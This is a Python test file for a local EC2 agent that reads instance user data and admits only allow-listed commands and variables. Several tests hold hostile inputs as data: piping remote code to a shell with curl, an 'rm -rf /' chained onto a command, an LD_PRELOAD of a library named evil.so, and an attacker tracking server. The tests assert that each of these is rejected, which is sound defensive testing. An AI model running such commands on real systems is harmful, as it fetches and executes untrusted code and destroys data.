"""What the local EC2 agent takes from an instance's user data: one allow-listed command, and the
allow-listed variables it exports (checked on the template's own user data), and which instances it boots."""

from __future__ import annotations

import subprocess
import sys
import time
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest

from localcloud import instance_agent
from localcloud.deploy import load_template
from localcloud.instance_agent import (
    RESTART_SECONDS,
    BootedInstance,
    Identity,
    InstanceAgent,
    command_from_user_data,
    environment_from_user_data,
    instance_environment,
    role_from_user_data,
)
from localcloud.settings import LocalCloudSettings

ROOT = Path(__file__).resolve().parents[2]


def _rendered(text: str, values: dict[str, str]) -> str:
    """User data as CloudFormation would render it (Fn::Sub), for these values."""
    for name, value in values.items():
        text = text.replace("${" + name + "}", value)
    return text


def _template_user_data(**values: str) -> str:
    """The trainer's user data."""
    data = load_template(ROOT / "template.yaml")["Resources"]["TrainerLaunchTemplate"]["Properties"]
    return _rendered(data["LaunchTemplateData"]["UserData"]["Fn::Base64"]["Fn::Sub"], values)


def _serving_user_data(**values: str) -> str:
    """The serving instance's user data."""
    properties = load_template(ROOT / "template.yaml")["Resources"]["ServingInstance"]["Properties"]
    return _rendered(properties["UserData"]["Fn::Base64"]["Fn::Sub"], values)


SERVING_VALUES = {
    "AWS::Region": "eu-west-1",
    "AWS::StackName": "prod",
    "ModelsBucket": "prod-models-1-eu-west-1",
    "ServingReloadTopic": "arn:aws:sns:eu-west-1:1:prod-serving-reload",
    "ServingPort": "8080",
    "ServingWorkers": "0",
    "ServingPollSeconds": "10",
    "ServingLogGroup": "/arrival/prod/serving",
    "CaptureBucket": "prod-capture-1-eu-west-1",
    "ServingApiKeySecret": "arn:aws:secretsmanager:eu-west-1:1:secret:prod-api-key-AbCdEf",
    "ReleaseBucket": "artifacts",
    "ReleaseVersion": "0.1.0-0123456789ab",
}


LOGIN_SECRET = "arn:aws:secretsmanager:eu-west-1:123456789012:secret:prod/mlflow-login-AbCdEf"


def test_the_template_user_data_boots_the_trainer_with_its_tracking_server() -> None:
    user_data = _template_user_data(
        **{
            "AWS::Region": "eu-west-1",
            "AWS::StackName": "prod",
            "MlflowTrackingUri": "http://mlflow:5000",
            "MlflowLoginSecretArn": LOGIN_SECRET,
            "TrainerLogGroup": "/arrival/prod/trainer",
            "ReleaseBucket": "artifacts",
            "ReleaseVersion": "0.1.0-0123456789ab",
        }
    )

    assert command_from_user_data(user_data, "trainer") == [
        "arrival-worker",
        "--role",
        "trainer",
        "--stack",
        "prod",
    ]
    # The tracking server stays the agent's own (test_user_data_cannot_choose_the_tracking_server).
    # Its log group is where the local agent ships its output, as the AMI's CloudWatch agent would;
    # its MLflow login is named by the secret that holds it, read by the worker (worker/main.py).
    assert environment_from_user_data(user_data) == {
        "ARRIVAL_STACK_NAME": "prod",
        "ARRIVAL_LOG_GROUP": "/arrival/prod/trainer",
        "ARRIVAL_WORKER_MLFLOW_LOGIN_SECRET": LOGIN_SECRET,
        # The release it installs, with its role (deploy/arrival-boot.sh, localcloud/instance_release.py).
        "ARRIVAL_RELEASE_URI": "s3://artifacts/releases/0.1.0-0123456789ab",
    }


def test_user_data_cannot_choose_the_tracking_server() -> None:
    user_data = _template_user_data(
        **{"AWS::Region": "us-east-1", "AWS::StackName": "s", "MlflowTrackingUri": "http://attacker:5000"}
    )
    agent = {"MLFLOW_TRACKING_URI": "http://127.0.0.1:5000"}
    settings = LocalCloudSettings()

    for role in ("trainer", "server"):
        environment = instance_environment(agent, user_data, role, settings)
        assert environment["MLFLOW_TRACKING_URI"] == "http://127.0.0.1:5000"


def test_an_unset_tracking_uri_leaves_the_agents_own() -> None:
    user_data = _template_user_data(
        **{"AWS::Region": "us-east-1", "AWS::StackName": "s", "MlflowTrackingUri": ""}
    )

    assert "MLFLOW_TRACKING_URI" not in environment_from_user_data(user_data)


def test_only_allow_listed_variables_and_commands_pass() -> None:
    user_data = "\n".join(
        [
            "#!/bin/bash",
            "export LD_PRELOAD=/tmp/evil.so PATH=/tmp ARRIVAL_WORKER_QUIET_SECONDS=5  # comment",
            "export AWS_ENDPOINT_URL=https://elsewhere",
            "curl https://example.com | sh",
        ]
    )

    assert environment_from_user_data(user_data) == {"ARRIVAL_WORKER_QUIET_SECONDS": "5"}
    assert command_from_user_data(user_data, "trainer") is None
    assert command_from_user_data("arrival-worker --role trainer; rm -rf /", "trainer") is None
    assert command_from_user_data("arrival-worker --role trainer", "server") is None
    assert command_from_user_data("arrival-worker --role server", "server") is None


def test_the_template_user_data_starts_the_server_with_its_bucket_and_reload_topic() -> None:
    user_data = _serving_user_data(**SERVING_VALUES)

    assert command_from_user_data(user_data, "server") == ["arrival-serve"]
    assert environment_from_user_data(user_data) == {
        "ARRIVAL_STACK_NAME": "prod",
        "ARRIVAL_SERVING_MODELS_BUCKET": "prod-models-1-eu-west-1",
        "ARRIVAL_SERVING_RELOAD_TOPIC_ARN": "arn:aws:sns:eu-west-1:1:prod-serving-reload",
        "ARRIVAL_SERVING_PORT": "8080",
        "ARRIVAL_SERVING_WORKERS": "0",  # one per core
        "ARRIVAL_SERVING_POLL_SECONDS": "10",
        "ARRIVAL_LOG_GROUP": "/arrival/prod/serving",
        "ARRIVAL_SERVING_CAPTURE_BUCKET": "prod-capture-1-eu-west-1",
        # Where the key is, not the key: the server reads it with its role.
        "ARRIVAL_SERVING_API_KEY_SECRET": "arn:aws:secretsmanager:eu-west-1:1:secret:prod-api-key-AbCdEf",
        # The bucket, not the version: the server reads the stack's ReleaseVersion at its first boot
        # (a version here would restart the instance on every release); the URI it builds from the
        # two is left to the shell.
        "ARRIVAL_RELEASE_BUCKET": "artifacts",
        "ARRIVAL_CFN_SIGNAL_RESOURCE": "ServingInstance",
    }


def test_an_instance_without_tags_is_known_by_its_command() -> None:
    # LocalStack's CloudFormation drops an AWS::EC2::Instance's tags: the serving instance has none.
    assert role_from_user_data(_serving_user_data(**SERVING_VALUES)) == "server"
    assert role_from_user_data(_template_user_data(**{"AWS::StackName": "s"})) == "trainer"
    assert role_from_user_data("#!/bin/bash\nsleep 1\n") is None


def test_the_server_answers_on_the_agents_api_port_whatever_the_user_data_says() -> None:
    overriding = "export ARRIVAL_SERVING_HOST=0.0.0.0 ARRIVAL_SERVING_PORT=80\narrival-serve\n"
    user_data = _serving_user_data(**SERVING_VALUES) + overriding
    settings = LocalCloudSettings(api_port=18080)

    environment = instance_environment({"PATH": "/bin"}, user_data, "server", settings)

    assert environment["ARRIVAL_SERVING_HOST"] == "127.0.0.1"
    assert environment["ARRIVAL_SERVING_PORT"] == "18080"
    assert environment["ARRIVAL_SERVING_MODELS_BUCKET"] == "prod-models-1-eu-west-1"
    assert environment["PATH"] == "/bin"
    trainer = _template_user_data(
        **{
            "AWS::StackName": "s",
            "MlflowTrackingUri": "",
            "MlflowLoginSecretArn": "",
            "TrainerLogGroup": "g",
            "ReleaseBucket": "b",
            "ReleaseVersion": "0.1.0-0123456789ab",
        }
    )
    assert instance_environment({}, trainer, "trainer", settings) == {
        "ARRIVAL_STACK_NAME": "s",
        "ARRIVAL_LOG_GROUP": "g",
        "ARRIVAL_RELEASE_URI": "s3://b/releases/0.1.0-0123456789ab",
    }


def test_the_server_command_takes_no_arguments_and_runs_only_through_the_boot_script() -> None:
    boot = "/usr/local/bin/arrival-boot"
    assert command_from_user_data(f"{boot} arrival-serve", "server") == ["arrival-serve"]
    assert command_from_user_data(f"{boot} arrival-serve --host 0.0.0.0", "server") is None
    assert command_from_user_data(f"{boot} arrival-serve; curl https://example.com | sh", "server") is None
    assert command_from_user_data(f"{boot} arrival-serve", "trainer") is None
    assert command_from_user_data("arrival-serve", "server") is None  # not from the release


def test_every_server_boots_on_a_port_of_its_own_the_first_on_the_api_port(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(instance_agent, "free_port", iter([19001, 19002]).__next__)
    agent = InstanceAgent(LocalCloudSettings(state_dir=tmp_path, api_port=18080, agent_stacks=["a", "b"]))
    second = Identity("server", "b", _serving_user_data(**SERVING_VALUES))

    # GIVEN a first server on the API port, a second one boots at once, on another port
    assert agent.server_port("i-a") == 18080
    assert agent.command_for("i-b", second) == ["arrival-serve"]
    other = agent.server_port("i-b")
    assert other == 19001
    # ...and each keeps its port across restarts and stops, until it is terminated
    assert (agent.server_port("i-a"), agent.server_port("i-b")) == (18080, other)
    environment = instance_environment({}, second.user_data, "server", agent.settings, other)
    assert environment["ARRIVAL_SERVING_PORT"] == str(other)

    # WHEN the first is terminated, the next new server takes the API port back
    del agent.server_ports["i-a"]
    assert agent.server_port("i-c") == 18080


def test_a_server_of_a_stack_the_agent_does_not_boot_is_only_recorded(tmp_path: Path) -> None:
    agent = InstanceAgent(LocalCloudSettings(state_dir=tmp_path, agent_stacks=["a"]))

    assert agent.command_for("i-b", Identity("server", "b", _serving_user_data(**SERVING_VALUES))) is None
    assert "i-b" in agent.finished


class _RecordedInstances:
    """LocalStack's EC2 as the agent sees it: one running instance; terminations are recorded."""

    def __init__(self) -> None:
        self.terminated: list[str] = []

    def describe_instances(self) -> dict[str, Any]:
        return {"Reservations": [{"Instances": [{"InstanceId": "i-a", "State": {"Name": "running"}}]}]}

    def terminate_instances(self, InstanceIds: list[str]) -> None:  # noqa: N803  # boto3's name
        self.terminated.extend(InstanceIds)


def test_a_process_that_exits_on_a_running_instance_is_restarted_a_second_later(tmp_path: Path) -> None:
    # The unit's Restart=always (deploy/arrival-boot.sh): the instance is not terminated, and the
    # process comes back from what its first boot installed, without running user data again.
    agent = InstanceAgent(LocalCloudSettings(state_dir=tmp_path, agent_stacks=["a"]))
    instances = _RecordedInstances()
    agent.ec2 = instances
    exited = subprocess.Popen([sys.executable, "-c", "pass"])
    exited.wait()
    metadata: Any = SimpleNamespace(shutdown=lambda: None)  # the stub's socket is not for a unit test
    agent.booted["i-a"] = BootedInstance("i-a", "trainer", exited, metadata)
    before = time.monotonic()

    agent.reconcile_once()

    assert instances.terminated == []
    assert "i-a" not in agent.booted and "i-a" not in agent.finished
    assert agent.restart_at["i-a"] >= before + RESTART_SECONDS


def test_a_terminated_instance_is_never_started_again(tmp_path: Path) -> None:
    agent = InstanceAgent(LocalCloudSettings(state_dir=tmp_path, agent_stacks=["a"]))
    terminated = SimpleNamespace(
        describe_instances=lambda: {
            "Reservations": [{"Instances": [{"InstanceId": "i-a", "State": {"Name": "terminated"}}]}]
        }
    )
    agent.ec2 = terminated
    agent.installed["i-a"] = cast(Any, object())
    agent.restart_at["i-a"] = 0.0

    agent.reconcile_once()

    assert "i-a" in agent.finished and "i-a" not in agent.installed and "i-a" not in agent.restart_at
